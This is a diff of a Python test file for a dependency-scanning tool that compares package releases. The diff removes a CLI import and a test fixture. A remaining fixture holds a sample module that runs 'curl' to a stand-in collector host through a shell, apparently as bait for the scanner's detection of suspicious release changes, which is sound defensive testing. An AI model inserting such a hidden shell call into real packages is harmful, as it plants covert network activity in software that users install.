@@ -8,7 +8,6 @@ from pathlib import Path
 
 import pytest
 
-from depscan.cli import _main
 from depscan.comparison import CompareOptions, compare_paths, compare_release
 from depscan.errors import ArtifactError, UsageError
 from tests.unit.artifacts.builders import tar_of, zip_of
@@ -17,16 +16,6 @@ from tests.unit.release.releases import CODE, npm_bytes, save, sdist_bytes, whee
 Run = Callable[..., tuple[int, str, str]]
 BASE = {"alpha/__init__.py": CODE}
 RUNS = {"alpha/__init__.py": "import subprocess\n\nsubprocess.Popen('curl https://collector.invalid', shell=True)\n"}
-
-
-@pytest.fixture
-def run(capfdbinary: pytest.CaptureFixture[bytes]) -> Run:
-    def call(*argv: str) -> tuple[int, str, str]:
-        code = _main.main(["compare", *argv])
-        out, err = capfdbinary.readouterr()
-        return code, out.decode(), err.decode()
-
-    return call
 
 
 def wheels(folder: Path, *versions: tuple[str, dict[str, str]], name: str = "demo", metadata: str = "") -> list[str]:
